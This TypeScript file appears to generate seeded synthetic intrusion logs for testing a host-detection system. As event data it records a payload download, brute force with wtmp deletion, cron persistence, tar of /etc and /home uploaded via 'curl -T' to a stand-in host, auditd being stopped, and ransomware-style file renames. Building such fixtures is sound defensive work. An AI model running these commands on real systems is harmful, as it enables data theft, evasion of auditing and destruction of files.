// Seeded logs of what intruders do, step by step and often long apart, on three devices at once.

import type { EventType, Process, SensorEvent } from "@picket/protocol/event";
import { seeded } from "@picket/protocol/seeded";
import { child, event, proc, T0 } from "./events.ts";
import { packed, type Stored } from "./site.ts";

type Draft = { readonly atMs: number; readonly type: EventType; readonly body: SensorEvent["body"] };
type Told = (atMs: number, type: EventType, body: object) => void;
type Random = () => number;
const MINUTE = 60_000;

const init = proc(1, "/usr/lib/systemd/systemd");
const sshd = child(700, "/usr/sbin/sshd", init);
const shell = child(710, "/usr/bin/bash", sshd);
const of = (pid: number, exe: string, argv?: readonly string[], parent: Process = shell): Process =>
  child(pid, exe, parent, { ancestors: parent.parent ? [parent.parent] : [], ...(argv ? { argv: [...argv] } : {}) });
const brief = ({ ancestors: _, ...process }: Process) => process;

/** One intrusion: `pid` and 20 after it are its own. */
const acts: readonly ((tell: Told, pid: number, random: Random) => void)[] = [
  (tell, pid, random) => {
    const curl = of(pid, "/usr/bin/curl");
    const path = `/tmp/f${pid}`;
    tell(0, "process.exec", { process: curl });
    tell(10, "net.connect", { process: brief(curl), net: { proto: "tcp", dstIp: "198.51.100.7", dstPort: 80 } });
    tell(20, "file.create", { process: brief(curl), file: { path } });
    const runMs = 1000 + Math.floor(random() * 40 * MINUTE);
    tell(runMs, "process.exec", { process: of(pid + 1, path) });
    tell(runMs + 500, "net.connect", { process: brief(of(pid + 1, path)), net: { proto: "tcp", dstIp: "198.51.100.9", dstPort: 3333 } });
    const metrics = { cpu: { busy: 1, load1: 1 }, memory: { totalBytes: 1, availableBytes: 1 }, disks: [], interfaces: [] };
    for (let at = 1; at < 4; at++)
      tell(runMs + at * 7 * MINUTE, "host.metrics", { ...metrics, topProcesses: [{ pid: pid + 1, exe: path, cpu: 0.95, rssBytes: 1 }] });
  },
  (tell, pid, random) => {
    const from = { user: "root", remoteIp: `203.0.113.${pid % 7}`, method: "password" };
    for (let at = 0; at < 9; at++) tell(at * 2000, "auth.login", { ...from, ok: false });
    const inMs = 20_000 + Math.floor(random() * 30 * MINUTE);
    tell(inMs, "auth.login", { ...from, ok: true });
    tell(inMs + 900, "process.exec", { process: of(pid, "/usr/bin/bash", undefined, sshd) });
    tell(inMs + 5000, "file.delete", {
      process: brief(of(pid + 1, "/usr/bin/rm", undefined, of(pid, "/usr/bin/bash", undefined, sshd))),
      file: { path: "/var/log/wtmp" },
    });
  },
  (tell, pid, random) => {
    tell(0, "file.create", { process: brief(of(pid, "/usr/bin/tee")), file: { path: "/etc/cron.d/x" } });
    const startMs = 2000 + Math.floor(random() * 30 * MINUTE);
    for (let at = 0; at < 7; at++) {
      const process = of(pid + 1 + at, "/usr/bin/python3", ["python3", "/opt/u.py"], child(500, "/usr/sbin/cron", init));
      tell(startMs + at * 45_000, "net.connect", {
        process: brief(process),
        net: { proto: "tcp", dstIp: `192.0.${pid % 200}.5`, dstPort: 443 },
      });
    }
  },
  (tell, pid, random) => {
    const tar = of(pid, "/usr/bin/tar", ["tar", "czf", `/tmp/d${pid}.tgz`, "/etc", "/home"]);
    tell(0, "process.exec", { process: tar });
    const send = of(pid + 1, "/usr/bin/curl", ["curl", "-T", `/tmp/d${pid}.tgz`, "https://files.example/"]);
    const sendMs = 1000 + Math.floor(random() * 20 * MINUTE);
    tell(sendMs, "process.exec", { process: send });
    tell(sendMs + 100 + Math.floor(random() * 30_000), "net.connect", {
      process: brief(send),
      net: { proto: "tcp", dstIp: `192.1.${pid % 250}.5`, dstPort: 443 },
    });
  },
  (tell, pid) => {
    const exploit = of(pid, "/home/app/x");
    tell(0, "process.setuid", { process: brief(exploit), from: 1000, to: 0 });
    tell(40_000, "file.create", { process: brief(exploit), file: { path: "/etc/systemd/system/x.service" } });
    tell(60_000, "process.exec", { process: of(pid + 1, "/usr/bin/systemctl", ["systemctl", "stop", "auditd"]) });
    const memory = of(pid + 2, "/memfd:x (deleted)");
    tell(100_000, "process.exec", { process: memory });
    tell(110_000, "net.connect", { process: brief(memory), net: { proto: "tcp", dstIp: "203.0.113.8", dstPort: 443 } });
    for (let at = 0; at < 14; at++)
      tell(115_000 + at * 700, "net.connect", { process: brief(memory), net: { proto: "tcp", dstIp: `203.0.114.${at}`, dstPort: 23 } });
    for (let at = 0; at < 30; at++)
      tell(130_000 + at * 900, "file.rename", { process: brief(memory), file: { path: `/srv/${at}.pdf`, to: `/srv/${at}.pdf.l0cked` } });
  },
];

/** Batches of three devices, each with `count` intrusions that overlap. */
export function intrusionLog(seed: number, count: number): Stored[] {
  const random = seeded(seed);
  const batches: { receivedMs: number; device: number; events: SensorEvent[] }[] = [];
  for (let device = 0; device < 3; device++) {
    const drafts: Draft[] = [];
    let startMs = 0;
    for (let at = 0; at < count; at++) {
      startMs += Math.floor(random() * 12 * MINUTE);
      const beganMs = startMs;
      acts[Math.floor(random() * acts.length)]!(
        (atMs, type, body) => drafts.push({ atMs: beganMs + atMs, type, body: body as SensorEvent["body"] }),
        2000 + at * 20,
        random,
      );
    }
    drafts.sort((a, b) => a.atMs - b.atMs);
    const envelope = { device: `gw-${device}`, epoch: "abcdefgh" };
    const events = drafts.map(({ atMs, type, body }, seq) => event(type, atMs, body as never, { ...envelope, seq }));
    for (let at = 0; at < events.length; ) {
      const some = events.slice(at, at + 1 + Math.floor(random() * 12));
      at += some.length;
      batches.push({ receivedMs: some.at(-1)!.timeMs + Math.floor(random() * 900), device, events: some });
    }
  }
  batches.sort((a, b) => a.receivedMs - b.receivedMs || a.device - b.device);
  return batches.map(({ receivedMs, device, events }, at) => packed(at + 1, Math.max(T0, receivedMs), BOOTS[device]!, events));
}

const BOOTS = ["11111111-1111-4111-8111-111111111111", "22222222-2222-4222-8222-222222222222", "33333333-3333-4333-8333-333333333333"];
